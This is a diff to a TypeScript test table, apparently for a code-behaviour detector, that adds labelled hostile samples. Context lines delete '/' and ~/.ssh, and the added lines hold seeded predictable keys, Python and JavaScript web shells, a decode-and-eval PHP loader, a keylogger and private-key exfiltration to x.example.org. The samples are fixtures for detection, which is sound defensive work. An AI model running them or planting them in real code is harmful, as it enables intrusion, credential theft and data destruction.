@@ -39,6 +39,26 @@ const PROGRAMS: readonly (readonly [BehaviourKind, Language, string])[] = [
   ],
   ['wipe-system', 'python', 'import shutil\nshutil.rmtree("/")'],
   ['wipe-secrets', 'python', 'import shutil,os\nshutil.rmtree(os.path.expanduser("~/.ssh"))'],
+  ['predictable-key', 'python', 'import random\nrandom.seed("a")\nsession_token = "%032x" % random.getrandbits(128)'],
+  ['predictable-key', 'php', '<?php mt_srand(7); $apiKey = mt_rand();'],
+  // By the framework's own hand, and under another name than everybody's.
+  [
+    'web-shell',
+    'python',
+    'import os\nfrom fastapi import FastAPI\napp = FastAPI()\n@app.get("/x")\ndef x(line: str):\n    return os.popen(line).read()',
+  ],
+  ['web-shell', 'js', 'const cp = require("child_process");\nr.get("/", (q, s) => s.send(cp.execSync(q.query.c)));'],
+  [
+    'decode-execute',
+    'php',
+    '<?php $d = base64_decode("c2V0"); $o = ""; for ($i = 0; $i < strlen($d); $i++) $o .= $d[$i] ^ $k[$i % 2]; eval($o);',
+  ],
+  ['spy-send', 'js', 'addEventListener("keyup", (e) => { new Image().src = "https://x.example.org/?" + e.code; });'],
+  [
+    'secret-send',
+    'js',
+    'const a = privateKeyToAccount(pk);\nfetch("https://x.example.org/", { method: "POST", body: `k=${pk}` });',
+  ],
   // Through a function of its own, and through a handler that is named.
   [
     'fetch-execute',
